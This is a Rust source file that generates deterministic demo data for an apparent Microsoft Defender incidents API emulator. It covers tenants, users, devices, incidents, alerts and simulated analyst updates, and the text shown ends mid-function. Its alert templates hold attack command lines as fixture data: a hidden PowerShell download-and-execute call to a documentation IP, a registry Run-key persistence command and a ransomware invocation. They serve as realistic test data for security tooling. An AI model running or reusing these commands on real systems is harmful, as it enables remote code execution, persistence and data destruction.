//! Realistic, schema-faithful demo data, generated (never read from files) so the demo runs on a
//! fresh clone.
//!
//! Everything is deterministic for a given `(index, incidents, now)`: a seeded SplitMix64 drives
//! every choice. Names are Microsoft's fictitious companies and personas, IP addresses come from
//! the documentation ranges (RFC 5737), and URLs use the reserved `.example` domain.

use chrono::{DateTime, Duration, Utc};
use serde_json::{Value, json};

use crate::ids::{Rng, guid_from, hash_str, mix};
use crate::time::format_graph_time;
use crate::{Emulator, TenantData, TokenLifetime};

/// Incident severities, in the order generated incidents cycle through them (all six members).
pub const SEVERITIES: [&str; 6] = ["informational", "low", "medium", "high", "unknown", "unknownFutureValue"];

/// The roles demo tenants are granted (not SecurityIncident.ReadWrite.All: the connector only reads).
pub const DEMO_ROLES: [&str; 3] = ["SecurityIncident.Read.All", "SecurityAlert.Read.All", "ThreatHunting.Read.All"];

/// How far back generated incidents reach.
const WINDOW_SECONDS: i64 = 20 * 3600;

const COMPANIES: [&str; 8] =
    ["contoso", "fabrikam", "northwind", "adatum", "tailspin", "wingtip", "litware", "proseware"];

/// (display name, account name) of end users.
const PEOPLE: [(&str, &str); 10] = [
    ("Adele Vance", "AdeleV"),
    ("Alex Wilber", "AlexW"),
    ("Megan Bowen", "MeganB"),
    ("Lidia Holloway", "LidiaH"),
    ("Diego Siciliani", "DiegoS"),
    ("Grady Archie", "GradyA"),
    ("Isaiah Langer", "IsaiahL"),
    ("Johanna Lorenz", "JohannaL"),
    ("Lee Gu", "LeeG"),
    ("Nestor Wilke", "NestorW"),
];

/// (display name, account name) of SOC analysts.
const ANALYSTS: [(&str, &str); 4] =
    [("Kai Carter", "KaiC"), ("David So", "DavidS"), ("Patti Fernandez", "PattiF"), ("Miriam Graham", "MiriamG")];

/// (host name, OS platform, OS build, version, RBAC group).
const DEVICES: [(&str, &str, i64, &str, &str); 8] = [
    ("ws-fin-014", "Windows11", 22631, "23H2", "Workstations"),
    ("ws-hr-022", "Windows11", 26100, "24H2", "Workstations"),
    ("lt-mkt-007", "Windows10", 19045, "22H2", "Laptops"),
    ("srv-sql-01", "WindowsServer2022", 20348, "21H2", "Servers"),
    ("srv-web-03", "WindowsServer2019", 17763, "1809", "Servers"),
    ("dc01", "WindowsServer2022", 20348, "21H2", "Domain controllers"),
    ("ws-dev-031", "Windows11", 22631, "23H2", "Workstations"),
    ("lt-exec-002", "Windows11", 26100, "24H2", "Laptops"),
];

/// (city, country, ISO letters, latitude, longitude, state) for external IP addresses.
const PLACES: [(&str, &str, &str, f64, f64, &str); 5] = [
    ("Amsterdam", "Netherlands", "NL", 52.3676, 4.9041, "North Holland"),
    ("Sao Paulo", "Brazil", "BR", -23.5505, -46.6333, "Sao Paulo"),
    ("Singapore", "Singapore", "SG", 1.2903, 103.8519, "Central Singapore"),
    ("Lagos", "Nigeria", "NG", 6.5244, 3.3792, "Lagos"),
    ("Ashburn", "United States", "US", 39.0438, -77.4874, "Virginia"),
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Ev {
    Device,
    User,
    Ip,
    Url,
    File,
    Mailbox,
    Process,
    RegistryKey,
}

#[derive(Debug, Clone, Copy)]
struct FileSpec {
    name: &'static str,
    /// `{acct}` is replaced by the user's account name.
    path: &'static str,
    size: i64,
    publisher: Option<&'static str>,
    signer: Option<&'static str>,
}

const POWERSHELL: FileSpec = FileSpec {
    name: "powershell.exe",
    path: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    size: 491520,
    publisher: Some("Microsoft Corporation"),
    signer: Some("Microsoft Windows"),
};
const EXPLORER: FileSpec = FileSpec {
    name: "explorer.exe",
    path: "C:\\Windows",
    size: 5604432,
    publisher: Some("Microsoft Corporation"),
    signer: Some("Microsoft Windows"),
};
const CMD: FileSpec = FileSpec {
    name: "cmd.exe",
    path: "C:\\Windows\\System32",
    size: 323584,
    publisher: Some("Microsoft Corporation"),
    signer: Some("Microsoft Windows"),
};
const WINWORD: FileSpec = FileSpec {
    name: "WINWORD.EXE",
    path: "C:\\Program Files\\Microsoft Office\\root\\Office16",
    size: 1637240,
    publisher: Some("Microsoft Corporation"),
    signer: Some("Microsoft Corporation"),
};
const SERVICES: FileSpec = FileSpec {
    name: "services.exe",
    path: "C:\\Windows\\System32",
    size: 731744,
    publisher: Some("Microsoft Corporation"),
    signer: Some("Microsoft Windows Publisher"),
};

/// One kind of alert: fixed product facts plus the evidence it carries.
#[derive(Debug, Clone, Copy)]
struct Template {
    title: &'static str,
    category: &'static str,
    mitre: &'static [&'static str],
    service: &'static str,
    detection: &'static str,
    product: &'static str,
    description: &'static str,
    actions: &'static str,
    evidence: &'static [Ev],
    threat: Option<(&'static str, &'static str)>,
    file: Option<FileSpec>,
    /// (image, parent image, command line with `{acct}`/`{host}` placeholders).
    process: Option<(FileSpec, FileSpec, &'static str)>,
    url: Option<&'static str>,
    registry: Option<(&'static str, &'static str)>,
}

const MDE: &str = "microsoftDefenderForEndpoint";
const MDO: &str = "microsoftDefenderForOffice365";
const MDI: &str = "microsoftDefenderForIdentity";

const TEMPLATES: [Template; 14] = [
    Template {
        title: "Suspicious PowerShell command line",
        category: "Execution",
        mitre: &["T1059.001"],
        service: MDE,
        detection: MDE,
        product: "Microsoft Defender for Endpoint",
        description: "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used to download and run a payload in memory.",
        actions: "1. Examine the PowerShell command line to understand what commands were executed.\n2. Look for the process that invoked this PowerShell run and its origin.",
        evidence: &[Ev::Device, Ev::User, Ev::Process, Ev::Url, Ev::Ip],
        threat: None,
        file: None,
        process: Some((
            POWERSHELL,
            WINWORD,
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')\"",
        )),
        url: Some("http://198.51.100.23/a.ps1"),
        registry: None,
    },
    Template {
        title: "Email messages containing malicious URL removed after delivery",
        category: "InitialAccess",
        mitre: &["T1566.002"],
        service: MDO,
        detection: MDO,
        product: "Microsoft Defender for Office 365",
        description: "Emails containing a malicious URL were delivered and later removed by zero-hour auto purge.",
        actions: "Review the affected mailboxes and check whether any recipient clicked the URL.",
        evidence: &[Ev::Mailbox, Ev::Url, Ev::User],
        threat: None,
        file: None,
        process: None,
        url: Some("https://login-micros0ft-online.example/common/oauth2/authorize?client_id=4765445b"),
        registry: None,
    },
    Template {
        title: "Email messages containing malicious file removed after delivery",
        category: "InitialAccess",
        mitre: &["T1566.001"],
        service: MDO,
        detection: MDO,
        product: "Microsoft Defender for Office 365",
        description: "Emails with a malicious attachment were delivered and later removed by zero-hour auto purge.",
        actions: "Check whether the attachment was opened and isolate any device that ran it.",
        evidence: &[Ev::Mailbox, Ev::File, Ev::User],
        threat: Some(("TrojanDownloader:O97M/Donoff", "Donoff")),
        file: Some(FileSpec { name: "Invoice_0423.docm", path: "", size: 48213, publisher: None, signer: None }),
        process: None,
        url: None,
        registry: None,
    },
    Template {
        title: "Suspicious execution of hidden file",
        category: "DefenseEvasion",
        mitre: &["T1564.001"],
        service: MDE,
        detection: "antivirus",
        product: "Microsoft Defender for Endpoint",
        description: "A hidden file has been launched. Attackers often hide files associated with malicious tools to evade file system inspection and defenses.",
        actions: "Review the machine timeline for suspicious activities before and after the alert, and submit relevant files for deep analysis.",
        evidence: &[Ev::Device, Ev::File, Ev::Process, Ev::RegistryKey],
        threat: None,
        file: Some(FileSpec {
            name: "~$tmp.vbs",
            path: "C:\\Users\\{acct}\\AppData\\Roaming",
            size: 3214,
            publisher: None,
            signer: None,
        }),
        process: Some((
            FileSpec {
                name: "wscript.exe",
                path: "C:\\Windows\\System32",
                size: 168960,
                publisher: Some("Microsoft Corporation"),
                signer: Some("Microsoft Windows"),
            },
            EXPLORER,
            "wscript.exe \"C:\\Users\\{acct}\\AppData\\Roaming\\~$tmp.vbs\"",
        )),
        url: None,
        registry: Some(("HKEY_CURRENT_USER", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run")),
    },
    Template {
        title: "Impossible travel activity",
        category: "InitialAccess",
        mitre: &["T1078"],
        service: "microsoftDefenderForCloudApps",
        detection: "cloudAppSecurity",
        product: "Microsoft Defender for Cloud Apps",
        description: "The user signed in from two distant locations within a time shorter than the travel time between them.",
        actions: "Confirm the sign-ins with the user and reset the password if they were not theirs.",
        evidence: &[Ev::User, Ev::Ip],
        threat: None,
        file: None,
        process: None,
        url: None,
        registry: None,
    },
    Template {
        title: "Suspected DCSync attack (replication of directory services)",
        category: "CredentialAccess",
        mitre: &["T1003.006"],
        service: MDI,
        detection: MDI,
        product: "Microsoft Defender for Identity",
        description: "A replication request was sent from a computer that is not a domain controller.",
        actions: "Check whether the source computer should replicate directory data, and reset the KRBTGT password if not.",
        evidence: &[Ev::Device, Ev::User],
        threat: None,
        file: None,
        process: None,
        url: None,
        registry: None,
    },
    Template {
        title: "Ransomware behavior detected in the file system",
        category: "Ransomware",
        mitre: &["T1486"],
        service: MDE,
        detection: MDE,
        product: "Microsoft Defender for Endpoint",
        description: "A process encrypted many files and dropped ransom notes, behavior typical of ransomware.",
        actions: "Isolate the device, identify the initial access vector, and restore files from backup.",
        evidence: &[Ev::Device, Ev::File, Ev::Process],
        threat: Some(("Ransom:Win32/LockBit.MK!MTB", "LockBit")),
        file: Some(FileSpec {
            name: "lb3.exe",
            path: "C:\\ProgramData\\Intel",
            size: 160768,
            publisher: None,
            signer: None,
        }),
        process: Some((
            FileSpec { name: "lb3.exe", path: "C:\\ProgramData\\Intel", size: 160768, publisher: None, signer: None },
            CMD,
            "lb3.exe -pass 1a2b3c -path \\\\{host}\\shares",
        )),
        url: None,
        registry: None,
    },
    Template {
        title: "Anomaly detected in ASEP registry",
        category: "Persistence",
        mitre: &["T1547.001"],
        service: MDE,
        detection: MDE,
        product: "Microsoft Defender for Endpoint",
        description: "A process registered a suspicious command or file in an autostart registry key.",
        actions: "Inspect the registry value and the file it points to; remove it if it is not expected.",
        evidence: &[Ev::Device, Ev::RegistryKey, Ev::Process],
        threat: None,
        file: None,
        process: Some((
            FileSpec {
                name: "reg.exe",
                path: "C:\\Windows\\System32",
                size: 76800,
                publisher: Some("Microsoft Corporation"),
                signer: Some("Microsoft Windows"),
            },
            CMD,
            "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d C:\\Users\\{acct}\\AppData\\Local\\Temp\\svch0st.exe",
        )),
        url: None,
        registry: Some(("HKEY_CURRENT_USER", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run")),
    },
    Template {
        title: "'Wacatac' malware was detected",
        category: "Malware",
        mitre: &[],
        service: MDE,
        detection: "antivirus",
        product: "Microsoft Defender for Endpoint",
        description: "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines.",
        actions: "Run a full antivirus scan and check the machine for other indicators of compromise.",
        evidence: &[Ev::Device, Ev::File],
        threat: Some(("Trojan:Win32/Wacatac.B!ml", "Wacatac")),
        file: Some(FileSpec {
            name: "setup_crack.exe",
            path: "C:\\Users\\{acct}\\Downloads",
            size: 2291712,
            publisher: None,
            signer: None,
        }),
        process: None,
        url: None,
        registry: None,
    },
    Template {
        title: "Unfamiliar sign-in properties",
        category: "InitialAccess",
        mitre: &["T1078.004"],
        service: "azureAdIdentityProtection",
        detection: "azureAdIdentityProtection",
        product: "Microsoft Entra ID Protection",
        description: "The sign-in had properties not seen recently for this user: a new IP address, location and device.",
        actions: "Confirm the sign-in with the user; require a password reset if it was not theirs.",
        evidence: &[Ev::User, Ev::Ip],
        threat: None,
        file: None,
        process: None,
        url: None,
        registry: None,
    },
    Template {
        title: "Suspected overpass-the-hash attack (Kerberos)",
        category: "LateralMovement",
        mitre: &["T1550.002", "T1558"],
        service: MDI,
        detection: MDI,
        product: "Microsoft Defender for Identity",
        description: "A Kerberos ticket was requested with a weaker encryption type than usual, which may indicate an overpass-the-hash attack.",
        actions: "Reset the password of the account and investigate the source computer.",
        evidence: &[Ev::Device, Ev::User, Ev::Ip],
        threat: None,
        file: None,
        process: None,
        url: None,
        registry: None,
    },
    Template {
        title: "Suspicious invocation of a high-risk 'Credential Access' operation detected",
        category: "CredentialAccess",
        mitre: &["T1552"],
        service: "microsoftDefenderForCloud",
        detection: "microsoftDefenderForResourceManager",
        product: "Microsoft Defender for Cloud",
        description: "A user invoked an operation on a subscription that can be used to access credentials, from an unusual location.",
        actions: "Check the activity logs of the subscription and revoke the user's sessions if needed.",
        evidence: &[Ev::User, Ev::Ip],
        threat: None,
        file: None,
        process: None,
        url: None,
        registry: None,
    },
    Template {
        title: "Brute force attack against a Cloud PC",
        category: "CredentialAccess",
        mitre: &["T1110"],
        service: "microsoftSentinel",
        detection: "scheduledAlerts",
        product: "Microsoft Sentinel",
        description: "A scheduled analytics rule found many failed sign-ins to one Cloud PC from one address.",
        actions: "Block the source address and review the targeted account.",
        evidence: &[Ev::User, Ev::Ip, Ev::Device],
        threat: None,
        file: None,
        process: None,
        url: None,
        registry: None,
    },
    Template {
        title: "Suspicious service launched",
        category: "LateralMovement",
        mitre: &["T1569.002", "T1021.002"],
        service: MDE,
        detection: MDE,
        product: "Microsoft Defender for Endpoint",
        description: "A service was created and started remotely, a technique used for lateral movement.",
        actions: "Verify that the service is expected and inspect the account that created it.",
        evidence: &[Ev::Device, Ev::Process, Ev::User],
        threat: None,
        file: None,
        process: Some((
            FileSpec {
                name: "PSEXESVC.exe",
                path: "C:\\Windows",
                size: 383360,
                publisher: Some("Sysinternals - www.sysinternals.com"),
                signer: Some("Microsoft Corporation"),
            },
            SERVICES,
            "PSEXESVC.exe",
        )),
        url: None,
        registry: None,
    },
];

/// The GUID-shaped tenant id of demo tenant `index`.
pub fn tenant_id(index: usize) -> String {
    let h = mix(0x7E4A_0000_0000 + index as u64);
    guid_from(h, mix(h))
}

/// The GUID-shaped client id of demo tenant `index`.
pub fn client_id(index: usize) -> String {
    let h = mix(0xC11E_0000_0000 + index as u64);
    guid_from(h, mix(h))
}

/// The client secret of demo tenant `index`.
pub fn client_secret(index: usize) -> String {
    format!("demo-secret-{index}")
}

/// Company short name: Microsoft's fictitious companies, numbered after the first eight.
fn company(index: usize) -> String {
    let name = COMPANIES[index % COMPANIES.len()];
    match index / COMPANIES.len() {
        0 => name.to_string(),
        n => format!("{name}{n}"),
    }
}

/// The sign-in domain of demo tenant `index`.
pub fn domain(index: usize) -> String {
    format!("{}.onmicrosoft.com", company(index))
}

/// A demo tenant: credentials, [`DEMO_ROLES`], and `incidents` incidents (with 1–4 alerts each in
/// `alerts`) spread over the 20 hours before `now`.
pub fn generate_tenant(index: usize, incidents: usize, now: DateTime<Utc>) -> TenantData {
    let mut generator = Generator::new(index, now);
    let (incident_values, alert_values) = generator.incidents(incidents);
    TenantData {
        tenant_id: tenant_id(index),
        client_id: client_id(index),
        client_secret: client_secret(index),
        roles: DEMO_ROLES.iter().map(|r| r.to_string()).collect(),
        incidents: incident_values,
        alerts: alert_values,
        token_lifetime: TokenLifetime::Number(3599),
        ..TenantData::default()
    }
}

/// Simulates analyst work for the demo's second poll: sets the incident's `lastUpdateDateTime` to
/// `now`, moves its status on (active/awaitingAction → inProgress → resolved → active), reassigns
/// it, adds a comment, and updates its alerts to match. Returns false if the incident is unknown.
pub fn touch_incident(emulator: &Emulator, tenant_id: &str, incident_id: &str, now: DateTime<Utc>) -> bool {
    let Some(mut incident) = emulator.incident(tenant_id, incident_id) else {
        return false;
    };
    let stamp = format_graph_time(now);
    let domain = (0..4096)
        .find(|&i| self::tenant_id(i).eq_ignore_ascii_case(tenant_id))
        .map(domain)
        .unwrap_or_else(|| "contoso.onmicrosoft.com".to_string());
    let current = incident["assignedTo"].as_str().unwrap_or("").to_string();
    let (analyst_name, analyst_acct) =
        ANALYSTS.iter().copied().find(|(_, acct)| !current.starts_with(acct)).unwrap_or(ANALYSTS[0]);
    let analyst = format!("{analyst_acct}@{domain}");

    let status = incident["status"].as_str().unwrap_or("active").to_string();
    let (next_status, verdict, comment) = match status.as_str() {
        "active" | "awaitingAction" => ("inProgress", None, "Taking this one; isolating the affected device."),
        "inProgress" => {
            ("resolved", Some(("truePositive", "multiStagedAttack")), "Contained: device isolated, credentials reset.")
        }
        "resolved" => ("active", None, "Reopened: related activity seen again."),
        other => (other, None, "Reviewed."),
    };
    let next_status = next_status.to_string();
    incident["status"] = json!(next_status);
    incident["assignedTo"] = json!(analyst);
    incident["lastModifiedBy"] = json!(analyst);
    incident["lastUpdateDateTime"] = json!(stamp);
    if let Some((classification, determination)) = verdict {
        incident["classification"] = json!(classification);
        incident["determination"] = json!(determination);
        incident["resolvingComment"] = json!(comment);
    } else if next_status == "active" {
        incident["classification"] = Value::Null;
        incident["determination"] = Value::Null;
        incident["resolvingComment"] = Value::Null;
    }
    let note = json!({"comment": comment, "createdByDisplayName": analyst_name, "createdDateTime": stamp});
    match incident.get_mut("comments").and_then(Value::as_array_mut) {
        Some(comments) => comments.push(note),
        None => incident["comments"] = json!([note]),
    }
    emulator.upsert_incident(tenant_id, incident);

    for mut alert in emulator.alerts(tenant_id).into_iter().filter(|a| a["incidentId"].as_str() == Some(incident_id)) {
        alert["assignedTo"] = json!(analyst);
        alert["lastUpdateDateTime"] = json!(stamp);
        if let Some((classification, determination)) = verdict {
            alert["status"] = json!("resolved");
            alert["classification"] = json!(classification);
            alert["determination"] = json!(determination);
            alert["resolvedDateTime"] = json!(stamp);
        } else if next_status == "inProgress" && alert["status"] == "new" {
            alert["status"] = json!("inProgress");
        } else if next_status == "active" {
            alert["status"] = json!("new");
            alert["resolvedDateTime"] = Value::Null;
        }
        emulator.upsert_alert(tenant_id, alert);
    }
    true
}

/// A device of the tenant, with its stable ids.
struct Device {
    host: String,
    fqdn: String,
    os: &'static str,
    build: i64,
    version: &'static str,
    group: &'static str,
    group_id: i64,
    mde_id: String,
    aad_id: String,
    ip: String,
}

/// A user of the tenant, with its stable ids.
struct Person {
    display: &'static str,
    acct: &'static str,
    upn: String,
    aad_id: String,
    ad_guid: String,
    sid: String,
}

struct Generator {
    rng: Rng,
    index: usize,
    tid: String,
    domain: String,
    /// NetBIOS domain, e.g. `CONTOSO`.
    nt_domain: String,
    dns_domain: String,
    now: DateTime<Utc>,
    devices: Vec<Device>,
    people: Vec<Person>,
}

impl Generator {
    fn new(index: usize, now: DateTime<Utc>) -> Generator {
        let tid = tenant_id(index);
        let company = company(index);
        let domain = domain(index);
        let nt_domain = company.to_ascii_uppercase();
        let dns_domain = format!("corp.{company}.com");
        let stable = |salt: &str| {
            let h = hash_str(&format!("{tid}|{salt}"));
            (h, mix(h))
        };
        let devices = DEVICES
            .iter()
            .enumerate()
            .map(|(n, &(host, os, build, version, group))| {
                let (a, b) = stable(host);
                Device {
                    host: host.to_string(),
                    fqdn: format!("{host}.{dns_domain}"),
                    os,
                    build,
                    version,
                    group,
                    group_id: 10 + (hash_str(group) % 90) as i64,
                    mde_id: format!("{a:016x}{b:016x}{:08x}", (a ^ b) as u32),
                    aad_id: guid_from(b, a),
                    ip: format!("10.{}.{}.{}", index % 250, 10 + n, 20 + (a % 200)),
                }
            })
            .collect();
        let domain_sid = {
            let (a, b) = stable("domain-sid");
            format!("S-1-5-21-{}-{}-{}", a % 4_000_000_000, b % 4_000_000_000, (a ^ b) % 4_000_000_000)
        };
        let people = PEOPLE
            .iter()
            .enumerate()
            .map(|(n, &(display, acct))| {
                let (a, b) = stable(acct);
                Person {
                    display,
                    acct,
                    upn: format!("{acct}@{domain}"),
                    aad_id: guid_from(a, b),
                    ad_guid: guid_from(b, a),
                    sid: format!("{domain_sid}-{}", 1104 + n),
                }
            })
            .collect();
        let now_whole = DateTime::from_timestamp(now.timestamp(), 0).unwrap_or(now);
        Generator {
            rng: Rng::new(mix(0xDE30_0000_0000 + index as u64)),
            index,
            tid,
            domain,
            nt_domain,
            dns_domain,
            now: now_whole,
            devices,
            people,
        }
    }

    fn with_fraction(&mut self, at: DateTime<Utc>, digits: u32) -> DateTime<Utc> {
        with_fraction(&mut self.rng, at, digits)
    }

    fn analyst(&mut self) -> (&'static str, String) {
        let (name, acct) = *self.rng.pick(&ANALYSTS);
        (name, format!("{acct}@{}", self.domain))
    }

    fn incidents(&mut self, count: usize) -> (Vec<Value>, Vec<Value>) {
        // Creation times spread over the window, oldest first, so ids grow with time as real ones do.
        let slot = (WINDOW_SECONDS / count.max(1) as i64).max(1);
        let mut times = Vec::with_capacity(count);
        for i in 0..count {
            let jitter = self.rng.below((slot / 2 + 1) as u64) as i64;
            let ago = (WINDOW_SECONDS - slot * i as i64 - jitter).max(180);
            let created = self.now - Duration::seconds(ago);
            let created = self.with_fraction(created, ((i + 3) % 8) as u32);
            let delay = 1 + self.rng.below((ago - 2).min(6 * 3600) as u64) as i64;
            let updated = DateTime::from_timestamp(created.timestamp() + delay, 0).unwrap_or(created);
            let updated = self.with_fraction(updated, (i % 8) as u32);
            times.push((created, updated));
        }
        // Every fifth incident shares its lastUpdateDateTime with the previous one: real tenants
        // produce such ties (bulk updates), and cursors must not skip or repeat them.
        for i in (4..count).step_by(5) {
            if times[i].1 >= times[i - 1].0 {
                times[i - 1].1 = times[i].1;
            }
        }

        let base_id = 100_000 * (self.index as u64 + 1) + 1_000;
        let mut incidents = Vec::with_capacity(count);
        let mut alerts = Vec::new();
        for (i, &(created, updated)) in times.iter().enumerate() {
            let id = (base_id + i as u64).to_string();
            let previous = (i > 0).then(|| (base_id + i as u64 - 1).to_string());
            let (incident, mut linked) = self.incident(i, &id, previous, created, updated);
            incidents.push(incident);
            alerts.append(&mut linked);
        }
        (incidents, alerts)
    }

    fn incident(
        &mut self,
        i: usize,
        id: &str,
        previous: Option<String>,
        created: DateTime<Utc>,
        updated: DateTime<Utc>,
    ) -> (Value, Vec<Value>) {
        let severity = SEVERITIES[i % SEVERITIES.len()];
        let status = if i % 13 == 6 {
            "awaitingAction"
        } else if i % 11 == 7 && previous.is_some() {
            "redirected"
        } else {
            match self.rng.below(10) {
                0..=3 => "active",
                4..=5 => "inProgress",
                _ => "resolved",
            }
        };
        let verdict = match status {
            "resolved" => Some(self.verdict()),
            "redirected" => None,
            _ => match self.rng.below(100) {
                0..=59 => None,
                60..=84 => Some(("unknown", "unknown")),
                _ => Some(("truePositive", *self.rng.pick(&TRUE_POSITIVE))),
            },
        };
        let assigned = match status {
            "inProgress" | "resolved" => Some(self.analyst()),
            "active" if self.rng.chance(40) => Some(self.analyst()),
            _ => None,
        };
        let experts = status == "awaitingAction" || self.rng.chance(10);

        // The incident's cast: 1–3 devices and 1–2 users, shared by its alerts.
        let device_count = 1 + self.rng.below(3) as usize;
        let first_device = self.rng.below(self.devices.len() as u64) as usize;
        let devices: Vec<usize> = (0..device_count).map(|k| (first_device + k * 3) % self.devices.len()).collect();
        let user_count = 1 + self.rng.below(2) as usize;
        let first_user = self.rng.below(self.people.len() as u64) as usize;
        let users: Vec<usize> = (0..user_count).map(|k| (first_user + k * 7) % self.people.len()).collect();

        let alert_count = 1 + self.rng.below(4) as usize;
        let mut templates: Vec<usize> = Vec::new();
        while templates.len() < alert_count {
            let t = self.rng.below(TEMPLATES.len() as u64) as usize;
            if !templates.contains(&t) {
                templates.push(t);
            }
        }

        let mut alerts = Vec::with_capacity(alert_count);
        for (j, &t) in templates.iter().enumerate() {
            let ctx = AlertContext {
                incident_id: id,
                incident_status: status,
                incident_severity: severity,
                verdict: if status == "resolved" { verdict } else { None },
                assigned_to: assigned.as_ref().map(|a| a.1.clone()),
                created,
                updated,
                device: devices[j % devices.len()],
                user: users[j % users.len()],
                digits: ((i + 2 * j + 1) % 8) as u32,
            };
            alerts.push(self.alert(j, &TEMPLATES[t], &ctx));
        }

        let used_devices = templates
            .iter()
            .enumerate()
            .filter(|(_, t)| TEMPLATES[**t].evidence.contains(&Ev::Device))
            .map(|(j, _)| devices[j % devices.len()])
            .collect::<std::collections::BTreeSet<_>>()
            .len();
        let used_users = templates
            .iter()
            .enumerate()
            .map(|(j, _)| users[j % users.len()])
            .collect::<std::collections::BTreeSet<_>>()
            .len();
        let display_name = display_name(&templates, used_devices, used_users);

        let comments = if matches!(status, "inProgress" | "resolved") && self.rng.chance(50) {
            let (name, _) = self.analyst();
            let at = created + (updated - created) / 2;
            let at = self.with_fraction(at, 7);
            let at = at.clamp(created, updated);
            json!([{
                "comment": *self.rng.pick(&COMMENTS),
                "createdByDisplayName": name,
                "createdDateTime": format_graph_time(at),
            }])
        } else {
            json!([])
        };
        let priority = match severity {
            "high" => json!(self.rng.range(70, 100)),
            "medium" => json!(self.rng.range(40, 69)),
            "low" => json!(self.rng.range(15, 39)),
            "informational" => json!(self.rng.range(0, 14)),
            "unknownFutureValue" => json!(50),
            _ => Value::Null,
        };
        let summary = if alert_count > 1 && self.rng.chance(40) {
            json!(format!(
                "Defender correlated {alert_count} alerts involving {used_devices} device(s) and {used_users} user(s)."
            ))
        } else {
            Value::Null
        };
        let custom_tags = match self.rng.below(6) {
            0 => json!(["Demo"]),
            1 => json!(["VIP"]),
            2 => json!(["Finance", "VIP"]),
            _ => json!([]),
        };
        let resolving_comment = if status == "resolved" {
            json!(match verdict {
                Some(("truePositive", _)) => "Threat contained; affected accounts reset and devices re-imaged.",
                Some(("falsePositive", _)) => "Benign: activity matched a known-good process.",
                _ => "Expected activity confirmed with the asset owner.",
            })
        } else {
            Value::Null
        };
        let assigned_to = assigned.as_ref().map(|a| a.1.clone());
        let incident = json!({
            "id": id,
            "tenantId": self.tid,
            "status": status,
            "incidentWebUrl": format!("https://security.microsoft.com/incidents/{id}?tid={}", self.tid),
            "redirectIncidentId": if status == "redirected" { json!(previous) } else { Value::Null },
            "displayName": display_name,
            "createdDateTime": format_graph_time(created),
            "lastUpdateDateTime": format_graph_time(updated),
            "assignedTo": assigned_to,
            "classification": verdict.map(|v| v.0),
            "determination": verdict.map(|v| v.1),
            "severity": severity,
            "customTags": custom_tags,
            "systemTags": if experts { json!(["Defender Experts"]) } else { json!([]) },
            "description": if experts {
                json!("Microsoft Defender Experts observed activity consistent with hands-on-keyboard intrusion. Review the linked alerts and follow the recommended actions.")
            } else {
                Value::Null
            },
            "lastModifiedBy": assigned_to.clone().unwrap_or_else(|| "Microsoft 365 Defender-IncidentCreation".to_string()),
            "resolvingComment": resolving_comment,
            "comments": comments,
            "priorityScore": priority,
            "summary": summary,
        });
        (incident, alerts)
    }

    /// A valid (classification, determination) pair for a resolved incident.
    fn verdict(&mut self) -> (&'static str, &'static str) {
        match self.rng.below(10) {
            0..=5 => ("truePositive", *self.rng.pick(&TRUE_POSITIVE)),
            6..=7 => ("falsePositive", *self.rng.pick(&FALSE_POSITIVE)),
            _ => ("informationalExpectedActivity", *self.rng.pick(&EXPECTED_ACTIVITY)),
        }
    }

    fn alert(&mut self, j: usize, t: &Template, ctx: &AlertContext<'_>) -> Value {
        let span_ms = (ctx.updated - ctx.created).num_milliseconds().max(0) as u64;
        let created = if j == 0 {
            ctx.created
        } else {
            let at = ctx.created + Duration::milliseconds(self.rng.below(span_ms + 1) as i64);
            self.with_fraction(at, ctx.digits).clamp(ctx.created, ctx.updated)
        };
        let rest_ms = (ctx.updated - created).num_milliseconds().max(0) as u64;
        let updated = created + Duration::milliseconds(self.rng.below(rest_ms + 1) as i64);
        let updated = self.with_fraction(updated, (ctx.digits + 3) % 8).clamp(created, ctx.updated);
        let first_activity = created - Duration::seconds(self.rng.range(60, 900));
        let first_activity = self.with_fraction(first_activity, 3);
        let last_activity = first_activity + Duration::seconds(self.rng.range(0, 50));
        let last_activity = self.with_fraction(last_activity, 3);

        let provider_id = format!("638{:015}_{}", self.rng.below(1_000_000_000_000_000), self.rng.next_u64() as i32);
        let id = format!("da{provider_id}");
        let status = match ctx.incident_status {
            "resolved" => "resolved",
            "inProgress" => {
                if self.rng.chance(60) {
                    "inProgress"
                } else {
                    "new"
                }
            }
            "redirected" => "new",
            _ => {
                if self.rng.chance(20) {
                    "inProgress"
                } else {
                    "new"
                }
            }
        };
        // An incident is as severe as its worst alert, so the others are at most that severe.
        let ladder = ["informational", "low", "medium", "high"];
        let severity = match ladder.iter().position(|&x| x == ctx.incident_severity) {
            Some(top) if j > 0 => ladder[self.rng.below(top as u64 + 1) as usize],
            _ => ctx.incident_severity,
        };
        let investigation = match (t.service, status) {
            (MDE, "resolved") => *self.rng.pick(&["successfullyRemediated", "benign"]),
            (MDE, _) => *self.rng.pick(&["running", "pendingApproval", "queued", "unknown"]),
            _ => "unsupportedAlertType",
        };
        let resolved = status == "resolved";
        let evidence: Vec<Value> =
            t.evidence.iter().map(|&kind| self.evidence(kind, t, ctx, created, resolved)).collect();
        let detector = {
            let h = hash_str(t.title);
            guid_from(h, mix(h))
        };
        json!({
            "id": id,
            "providerAlertId": provider_id,
            "incidentId": ctx.incident_id,
            "status": status,
            "severity": severity,
            "classification": ctx.verdict.map(|v| v.0),
            "determination": ctx.verdict.map(|v| v.1),
            "serviceSource": t.service,
            "detectionSource": t.detection,
            "productName": t.product,
            "detectorId": detector,
            "tenantId": self.tid,
            "title": t.title,
            "description": t.description,
            "recommendedActions": t.actions,
            "category": t.category,
            "categories": [t.category],
            "assignedTo": ctx.assigned_to,
            "alertWebUrl": format!("https://security.microsoft.com/alerts/{id}?tid={}", self.tid),
            "incidentWebUrl": format!("https://security.microsoft.com/incidents/{}?tid={}", ctx.incident_id, self.tid),
            "actorDisplayName": Value::Null,
            "threatDisplayName": t.threat.map(|x| x.0),
            "threatFamilyName": t.threat.map(|x| x.1),
            "mitreTechniques": t.mitre,
            "createdDateTime": format_graph_time(created),
            "lastUpdateDateTime": format_graph_time(updated),
            "resolvedDateTime": if resolved { json!(format_graph_time(updated)) } else { Value::Null },
